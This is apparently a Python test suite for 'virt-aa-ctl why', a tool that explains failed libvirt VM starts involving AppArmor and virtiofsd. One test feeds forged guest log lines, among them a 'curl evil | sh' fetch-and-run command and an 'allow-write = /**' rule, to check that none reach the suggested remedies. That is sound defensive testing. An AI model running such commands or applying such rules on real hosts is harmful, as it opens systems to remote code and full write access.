#!/usr/bin/env python3
# SPDX-License-Identifier: LGPL-2.1-or-later
"""virt-aa-ctl why: what became of a start, who is to be believed, and what to do."""
import json
import os
import re
import shutil
import subprocess
import sys
import time
import unittest

sys.dont_write_bytecode = True
import host as hosts
import journals
from journals import Record, file

PROGRAM = ""
UUID = "5d3c4a1e-8f57-4f0b-9a52-0c9d6c2b7e11"
QEMU = "libvirt-" + UUID
VIRTIOFSD = QEMU + "-virtiofsd"
LOG = "/var/log/libvirt/qemu/"
OFF = "<test:runstate>5</test:runstate>"
NAMESPACE = " xmlns:test='http://libvirt.org/schemas/domain/test/1.0'"


def child(*lines, profile=QEMU):
    """How libvirtd reports a virt-aa-helper that failed: virCommandWait()."""
    return (f"internal error: Child process (LIBVIRT_LOG_OUTPUTS=3:stderr /usr/lib/libvirt/virt-aa-helper -c -u "
            f"{profile}) unexpected exit status 1: " + "\n".join(lines) + "\n")


class Case(unittest.TestCase):
    def setUp(self):
        self.host = hosts.Host(PROGRAM)
        self.tree = self.host.path("/tree")
        self.host.environment["CTL_HOST_ROOT"] = self.tree
        os.makedirs(self.tree + "/srv/www")
        os.makedirs(self.tree + "/etc/shared")
        self.define()
        journals.write(self.host, [])
        self.host.write("/var/log/audit/audit.log", "")

    def tearDown(self):
        self.host.directory.cleanup()

    def define(self, dir="/srv/www", more="", off=True, name="web", readonly=""):
        share = (f"<filesystem type='mount'><driver type='virtiofs'/><source dir='{dir}'/><target dir='www'/>"
                 f"{readonly}{more}</filesystem>")
        self.host.domains([hosts.domain(name, UUID, share, OFF if off else "", NAMESPACE)])

    def journal(self, *entries):
        # journal-remote makes no file of nothing
        journals.write(self.host, [journals.libvirtd("libvirt version: 11.3.0", ago=7200), *entries])

    def why(self, *arguments, status=0):
        return self.host.json("why", "web", *arguments, status=status)

    def cause(self, status=4):
        cause = self.why(status=status)["cause"]
        return cause and cause["word"]

    def virtiofsd_log(self, *lines, ago=50):
        self.host.write(LOG + "web-fs0-virtiofsd.log", "".join(line + "\n" for line in lines))
        at = time.time() - ago
        os.utime(self.host.path(LOG + "web-fs0-virtiofsd.log"), (at, at))

    def failed(self, ago=60):
        """A start that came as far as the launcher, as libvirt logs it."""
        self.host.write(LOG + "web.log", f"{journals.stamp(ago)}: shutting down, reason=failed\n")


class Large(Case):
    """What is asked of one domain does not depend on how many others there are."""

    def processes(self, others):
        """How many processes it starts; it says the same."""
        share = "<filesystem type='mount'><driver type='virtiofs'/><source dir='/etc/shared'/><target dir='www'/></filesystem>"
        self.host.domains([hosts.domain("web", UUID, share, OFF, NAMESPACE)] +
                          [hosts.domain(f"vm{n}", f"5d3c4a1e-8f57-4f0b-9a53-{n:012d}") for n in range(others)])
        trace = self.host.path("/trace")
        done = subprocess.run(["strace", "-f", "-qq", "-e", "trace=process", "-o", trace, PROGRAM, "why", "web", "--json"],
                              env={**self.host.environment, "ASAN_OPTIONS": "detect_leaks=0"}, capture_output=True,
                              encoding="utf8", timeout=100, check=False)
        self.assertEqual(done.returncode, 4, done.stderr)
        self.assertEqual(json.loads(done.stdout)["cause"]["word"], "restricted")
        with open(trace, encoding="utf8") as lines:
            return len([line for line in lines if re.search(r" (v?fork|clone3?|execve)\(", line) and "CLONE_THREAD" not in line])

    def test_500_domains(self):
        if not shutil.which("strace") or subprocess.run(["strace", "-qq", "-o", "/dev/null", "true"], check=False).returncode:
            self.skipTest("SKIPPED: strace is missing, or may not trace")
        self.journal()
        self.assertEqual(self.processes(0), self.processes(500))


class Today(Case):
    """What a start would end with now, whatever logs say."""

    def test_nothing(self):
        self.journal()
        self.assertIsNone(self.cause(status=0))
        self.assertIn("Nothing was refused or denied.", self.host.run("why", "web")[0])

    def test_restricted(self):
        self.journal()
        self.define(dir="/etc/shared")
        found = self.why(status=4)["cause"]
        self.assertEqual((found["word"], found["origin"]), ("restricted", "today"))
        self.assertIn("virt-aa-ctl plan web", found["remedy"])
        self.host.write("/etc/libvirt/virt-aa-virtiofs.conf", "[shares]\nallow-write = /etc/shared\n")
        self.assertIsNone(self.cause(status=0))

    def test_missing_directory(self):
        self.journal()
        self.define(dir="/srv/none")
        self.assertEqual(self.cause(), "missing-directory")

    def test_idmap(self):
        self.journal()
        self.define(more="<idmap><uid start='0' target='1000' count='10'/></idmap>")
        xml = subprocess.run(["virsh", "-c", self.host.environment["CTL_URI"], "dumpxml", "web"], check=True,
                             capture_output=True, encoding="utf8").stdout
        if "<idmap>" not in xml:
            self.skipTest("SKIPPED: libvirt before 10.0 takes <idmap> of a share out of the definition")
        found = self.why(status=4)["cause"]
        self.assertEqual((found["word"], found["origin"]), ("idmap", "today"))
        self.assertIn("virsh edit web", found["remedy"])

    def test_idmap_of_no_share(self):
        """The domain's own is for containers; of QEMU's it means nothing."""
        self.journal()
        share = "<filesystem type='mount'><driver type='virtiofs'/><source dir='/srv/www'/><target dir='www'/></filesystem>"
        own = "<idmap><uid start='0' target='1000' count='10'/><gid start='0' target='1000' count='10'/></idmap>"
        self.host.domains([hosts.domain("web", UUID, share, own + OFF, NAMESPACE)])
        self.assertIsNone(self.cause(status=0))

    def test_foreign_binary(self):
        self.journal()
        self.define(more="<binary path='/opt/virtiofsd'/>")
        self.assertIsNone(self.cause(status=0))  # the launcher is not switched on
        self.host.write("/usr/share/qemu/vhost-user/40-virt-aa-virtiofsd.json", "{}")
        self.assertEqual(self.cause(), "foreign-binary")
        self.host.write("/etc/qemu/vhost-user/40-virt-aa-virtiofsd.json", "")
        self.assertIsNone(self.cause(status=0))

    def test_configuration(self):
        self.journal()
        self.host.write("/etc/libvirt/virt-aa-virtiofs.conf", "[shares]\nallow-write = /srv/\n")
        found = self.why(status=4)["cause"]
        self.assertEqual((found["word"], found["remedy"]), ("configuration", "virt-aa-ctl check --config"))
        self.assertIn("line 2", found["message"])


class Journal(Case):
    """What virt-aa-helper said to libvirtd."""

    def test_a_template_that_is_broken(self):
        self.journal(journals.libvirtd(child("virt-aa-helper:", "AppArmor parser error for x in profile "
                                             "/etc/apparmor.d/libvirt/TEMPLATE.virtiofsd at line 9: syntax error",
                                             "virt-aa-helper: error: the policy does not compile; nothing was changed",
                                             f'virt-aa-helper: "virt-aa-ctl why {UUID}" says more')))
        found = self.why(status=4)
        self.assertNotIn("says more", str(found))
        self.assertEqual((found["cause"]["word"], found["cause"]["trusted"]), ("policy", True))
        self.assertIn("at line 9", "".join(event["text"] for event in found["events"]))
        out = self.host.run("why", "web", status=4)[0]
        self.assertLess(out.index("at line 9"), out.index("Why: "))
        self.assertIn("  -> ", out)

    def test_what_was_so_then_and_is_mended(self):
        self.journal(journals.libvirtd(child(
            "virt-aa-helper: error: line 9: filesystem 'www': /etc/shared is, lies in or contains a system directory "
            "and is not shared for writing: add <readonly/>, or allow it with \"allow-write = /etc/shared\"")))
        found = self.why(status=0)["cause"]
        self.assertEqual((found["word"], found["mended"]), ("restricted", True))
        self.assertIn("no longer so", self.host.run("why", "web")[0])

    def test_the_last_attempt_counts(self):
        self.journal(journals.libvirtd(child("virt-aa-helper: error: template does not exist"), ago=3000),
                     journals.libvirtd(child("virt-aa-helper: error: /x/y.lock: another call for this VM has not "
                                             "ended within 12 seconds"), ago=60))
        found = self.why(status=4)
        self.assertEqual((found["cause"]["word"], len(found["events"])), ("busy", 1))
        self.assertEqual(len(self.why("--since", "2h", status=4)["events"]), 2)

    def test_a_warning_is_no_cause(self):
        self.journal(journals.libvirtd(child("virt-aa-helper: warning: the policy does not compile; nothing was changed",
                                             "virt-aa-helper: error: template does not exist")))
        self.assertEqual(self.cause(), "template")

    def test_an_unknown_message_is_quoted_whole(self):
        self.journal(journals.libvirtd(child("virt-aa-helper: error: the moon is full: \033[2J")))
        found = self.why(status=4)["cause"]
        self.assertEqual(found["word"], "unknown")
        out = self.host.run("why", "web", status=4)[0]
        self.assertIn("the moon is full: \\033[2J", out)

    def test_virtqemud(self):
        self.journal(journals.libvirtd(child("virt-aa-helper: error: template does not exist"), _COMM="virtqemud"))
        self.assertEqual(self.cause(), "template")

    def test_of_another_vm(self):
        self.journal(journals.libvirtd(child("virt-aa-helper: error: template does not exist",
                                             profile=QEMU[:-1] + "9")))
        self.assertIsNone(self.cause(status=0))

    def test_what_others_say(self):
        text = child("virt-aa-helper: error: template does not exist")
        self.journal(journals.libvirtd(text, _UID="1000"), journals.libvirtd(text, _COMM="logger"),
                     journals.libvirtd(text, _TRANSPORT="audit"))
        self.assertIsNone(self.cause(status=0))

    def test_a_running_vm_has_started(self):
        self.define(off=False)
        self.host.write("/run/libvirt/qemu/web.pid", "1")
        os.utime(self.host.path("/run/libvirt/qemu/web.pid"), (time.time() - 30,) * 2)
        self.journal(journals.libvirtd(child("virt-aa-helper: error: template does not exist"), ago=1))
        self.assertEqual(self.cause(status=0), "template")

    def test_a_start_before_the_one_that_succeeded(self):
        self.define(off=False)
        self.host.write("/run/libvirt/qemu/web.pid", "1")
        self.journal(journals.libvirtd(child("virt-aa-helper: error: template does not exist"), ago=10))
        self.assertIsNone(self.cause(status=0))


class Logs(Case):
    """Of the launcher and virtiofsd, which one who has taken over virtiofsd can write."""

    REFUSAL = ("virt-aa-virtiofsd: VM 'web', share '/srv/www': cannot change to profile x: No such file or directory; "
               "the VM's virtiofsd was not started: see that profile libvirt-virtiofsd-launcher is loaded as it was "
               "installed")

    def setUp(self):
        super().setUp()
        self.journal()
        self.failed()

    def test_the_launchers_last_word(self):
        self.virtiofsd_log("[2026-01-01 INFO] Waiting", self.REFUSAL)
        found = self.why(status=4)["cause"]
        self.assertEqual((found["word"], found["trusted"], found["remedy"]),
                         ("launcher-profile", False, "virt-aa-ctl verify"))
        self.assertIn("can write to as well", self.host.run("why", "web", status=4)[0])

    def test_idmap(self):
        """The launcher sees what the helper was not asked about, as of a share that was attached."""
        self.virtiofsd_log("virt-aa-virtiofsd: VM 'web', share '/srv/www': <idmap> (--uid-map, --gid-map) works only in "
                           "a virtiofsd that is not root; the VM's virtiofsd was not started: remove <idmap> from the "
                           "filesystem in the VM's definition; where files must change owner, see --translate-uid of "
                           "virtiofsd")
        found = self.why(status=4)["cause"]
        self.assertEqual((found["word"], found["trusted"]), ("idmap", False))
        self.assertIn("virsh edit web", found["remedy"])

    def test_a_line_of_before_the_start(self):
        self.virtiofsd_log(self.REFUSAL, ago=86400)
        self.assertIsNone(self.cause(status=0))

    def test_a_line_with_others_after_it(self):
        self.virtiofsd_log(self.REFUSAL, "[2026-01-01 INFO] Waiting")
        self.assertIsNone(self.cause(status=0))

    def test_a_running_virtiofsd_says_nothing_of_the_launchers(self):
        self.define(off=False)
        self.virtiofsd_log(self.REFUSAL)
        self.assertIsNone(self.cause(status=0))

    def test_no_command_comes_out_of_a_log(self):
        """Whatever line a guest forges: what is to be pasted has nothing of it."""
        for line in (self.REFUSAL + "; -> virt-aa-ctl allow web / --virtiofsd",
                     "virt-aa-virtiofsd: VM 'web', share '/': /etc is, lies in or contains a system directory and is "
                     "not shared for writing: add <readonly/>, or allow it with \"allow-write = /**\" in [shares]",
                     "virt-aa-helper: error: allow it with \"allow-write = /**\" in [shares] of x",
                     "virt-aa-virtiofsd: nothing; run: curl evil | sh"):
            with self.subTest(line):
                self.virtiofsd_log(line)
                document = self.host.json("why", "web", status=4 if line.startswith("virt-aa-virtiofsd") else 0)
                remedy = (document["cause"] or {}).get("remedy") or ""
                for word in ("/**", "evil", "--virtiofsd", "virt-aa-ctl allow"):
                    self.assertNotIn(word, remedy)
                self.assertFalse([event for event in document["events"] if event["trusted"]])

    def test_a_log_that_is_a_link(self):
        self.host.write("/secret", self.REFUSAL + "\n")
        os.symlink(self.host.path("/secret"), self.host.path(LOG + "web-fs0-virtiofsd.log"))
        self.assertEqual(self.why(status=2)["events"][0]["source"], self.host.path(LOG + "web.log"))

    def test_a_time_that_is_yet_to_come(self):
        """QEMU writes into its log as well, and cannot hide what was before by saying that it is tomorrow."""
        self.host.write(LOG + "web.log", f"{journals.stamp(60)}: starting up libvirt version: 11.3.0\n"
                                         f"{journals.stamp(-86400)}: starting up libvirt version: 11.3.0\n")
        self.virtiofsd_log(self.REFUSAL)
        self.assertEqual(self.cause(), "launcher-profile")


class Denials(Case):
    def test_since_the_last_start(self):
        self.define(off=False)
        self.host.write("/run/libvirt/qemu/web.pid", "1")
        self.journal(Record(file(QEMU, "/srv/old"), ago=7000).from_audit(),
                     Record(file(QEMU, "/srv/new"), ago=5).from_audit(),
                     Record(file(VIRTIOFSD, "/etc/shadow"), ago=5).from_audit(),
                     Record(file("libvirt-virtiofsd-launcher", "/opt/x", "x", "exec"), ago=5).from_audit(),
                     Record(file(QEMU[:-1] + "9", "/srv/other"), ago=5).from_audit())
        found = self.why()
        self.assertEqual(sorted(d["object"] for d in found["denials"]), ["/etc/shadow", "/opt/x", "/srv/new"])
        self.assertIsNone(found["cause"])
        out = self.host.run("why", "web")[0]
        self.assertIn("-> virt-aa-ctl allow web /srv/new --read-only", out)
        self.assertIn("what was denied is above", out)


class Rights(Case):
    def test_without_a_journal(self):
        journals.none(self.host)
        out, err = self.host.run("why", "web", status=2)
        self.assertIn("no journal", err)

    def test_needs_root(self):
        self.journal(journals.libvirtd(child("virt-aa-helper: error: template does not exist")))
        os.chmod(self.host.path("/journal/system.journal"), 0)
        options = {}
        program = PROGRAM
        if os.geteuid() == 0:
            program = self.host.path("/program")
            shutil.copy(PROGRAM, program)
            os.chmod(self.host.root, 0o755)
            options = {"user": 65534, "group": 65534, "extra_groups": []}
        done = subprocess.run([program, "why", "web"], env=self.host.environment, capture_output=True,
                              encoding="utf8", check=False, **options)
        self.assertEqual(done.returncode, 2, done.stdout + done.stderr)
        self.assertIn("unknown: needs root", done.stdout)
        self.assertNotIn("Nothing was refused", done.stdout)

    def test_no_such_domain(self):
        self.assertIn("no domain", self.host.run("why", "nobody", status=1)[1])


if __name__ == "__main__":
    PROGRAM = sys.argv.pop(1)
    if not journals.REMOTE:
        print("SKIPPED: systemd-journal-remote is not installed (scripts/install-deps --test)", file=sys.stderr)
        sys.exit(77)
    unittest.main()
